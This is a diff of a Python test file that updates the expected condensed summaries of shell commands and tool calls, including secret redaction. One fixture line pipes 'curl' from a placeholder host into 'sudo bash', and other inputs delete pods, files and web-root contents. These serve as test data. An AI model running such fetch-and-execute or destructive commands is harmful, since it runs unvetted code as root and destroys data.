@@ -66,7 +66,7 @@ SCRIPT = "\n".join(["echo step"] * 40 + ["curl -s https://e.example/x | sudo bas
         ),
         (
             "kubectl -n x delete pod a b; kubectl get pods -n x",
-            'Runs "kubectl… delete pod… b", "kubectl get pods -n x"',
+            'Runs "kubectl… delete pod a b", "kubectl get pods…"',
         ),
         (
             "rm -rf build && make all the parts of it again",
@@ -91,7 +91,7 @@ SCRIPT = "\n".join(["echo step"] * 40 + ["curl -s https://e.example/x | sudo bas
         ),
         (
             "rsync -a --delete build/ web@shop:/var/www/ && systemctl reload nginx",
-            'Runs "rsync… --delete… web@shop:/var/www/", "systemctl reload nginx"',
+            'Runs "rsync -a --delete… web@shop:/var/www/", "systemctl reload nginx"',
         ),
         (f"deploy --password {TOKEN}", 'Runs "deploy --password ⟨secret⟩"'),
         ("", "Runs an empty command"),
@@ -198,7 +198,7 @@ def test_a_long_text_is_cut_at_a_word() -> None:
         (
             "set_bucket",
             {"bucket": "b", "region": "eu", "acl": "x", "owner": "o", "make_public": True},
-            '"set_bucket": "make_public=true", "bucket=b", "region=eu" and 2 more',
+            '"set_bucket": "make_public=true", "acl=x", "bucket=b" and 2 more',
         ),
         (
             "delete_branch",
